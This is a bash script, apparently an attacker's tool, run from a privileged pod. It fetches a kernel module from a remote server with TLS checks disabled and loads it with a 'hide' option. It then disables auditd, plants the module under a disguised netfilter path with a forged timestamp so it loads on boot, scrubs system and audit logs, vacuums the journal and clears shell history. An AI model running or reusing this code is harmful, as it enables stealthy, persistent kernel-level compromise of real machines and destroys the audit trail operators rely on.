#!/bin/bash
# node_module_stage.sh - runs from a privileged pod on the node.
# Fetches the module matching the node kernel from the build server,
# loads it, makes it load again on boot, and tidies up after itself.
#
#   MOD_SRC=https://dl.kernel-mirror.org/m  ./node_module_stage.sh [-n name] [-k]

MOD_SRC=${MOD_SRC:-https://dl.kernel-mirror.org/m}
MOD_NAME=nf_conntrack_helperx
KEEP_AUDIT=0
WORK=/dev/shm/.km

while getopts "n:k" o; do
    case $o in
        n) MOD_NAME=$OPTARG ;;
        k) KEEP_AUDIT=1 ;;
        *) exit 1 ;;
    esac
done

KREL=$(uname -r)
ARCH=$(uname -m)

note() { echo "[$(date +%s)] $*"; }

need_caps() {
    local eff
    eff=$(grep '^CapEff' /proc/self/status | awk '{print $2}')
    # CAP_SYS_MODULE is bit 16
    if (( ((16#$eff) >> 16 & 1) == 0 )); then
        note "no CAP_SYS_MODULE, giving up"
        exit 1
    fi
}

fetch_module() {
    mkdir -p "$WORK"
    local url="$MOD_SRC/$ARCH/$KREL/$MOD_NAME.ko"
    note "fetching $url"
    if command -v curl >/dev/null; then
        curl -fsSk --retry 3 -o "$WORK/$MOD_NAME.ko" "$url"
    else
        wget -q --no-check-certificate -O "$WORK/$MOD_NAME.ko" "$url"
    fi
    if [ ! -s "$WORK/$MOD_NAME.ko" ]; then
        note "no build for $KREL/$ARCH on the server"
        exit 1
    fi
}

quiet_audit() {
    (( KEEP_AUDIT )) && return
    # module loads are logged by auditd (init_module/finit_module rules)
    auditctl -D >/dev/null 2>&1
    auditctl -e 0 >/dev/null 2>&1
    systemctl stop auditd >/dev/null 2>&1 || service auditd stop >/dev/null 2>&1
}

load_module() {
    if grep -q "^$MOD_NAME " /proc/modules; then
        note "$MOD_NAME already resident"
        return 0
    fi
    insmod "$WORK/$MOD_NAME.ko" hide=1 || {
        note "insmod failed: $(dmesg | tail -n1)"
        return 1
    }
    note "$MOD_NAME loaded"
}

persist() {
    local dest="/lib/modules/$KREL/kernel/net/netfilter"
    mkdir -p "$dest"
    cp "$WORK/$MOD_NAME.ko" "$dest/$MOD_NAME.ko"
    touch -r "$dest/../netfilter.ko" "$dest/$MOD_NAME.ko" 2>/dev/null
    depmod -a "$KREL"
    echo "$MOD_NAME" > /etc/modules-load.d/nf-helper.conf
    echo "options $MOD_NAME hide=1" > /etc/modprobe.d/nf-helper.conf
    note "will load on boot via modules-load.d"
}

tidy() {
    rm -rf "$WORK"
    dmesg -C 2>/dev/null
    for f in /var/log/kern.log /var/log/syslog /var/log/messages /var/log/audit/audit.log; do
        [ -f "$f" ] && sed -i "/$MOD_NAME/d;/insmod/d" "$f"
    done
    journalctl --rotate >/dev/null 2>&1 && journalctl --vacuum-time=1s >/dev/null 2>&1
    unset HISTFILE
    history -c
    : > /root/.bash_history 2>/dev/null
}

main() {
    [ "$(id -u)" -eq 0 ] || { note "need root"; exit 1; }
    need_caps
    fetch_module
    quiet_audit
    load_module || exit 1
    persist
    tidy
    (( KEEP_AUDIT )) || systemctl start auditd >/dev/null 2>&1
    note "done on $(hostname)"
}

main
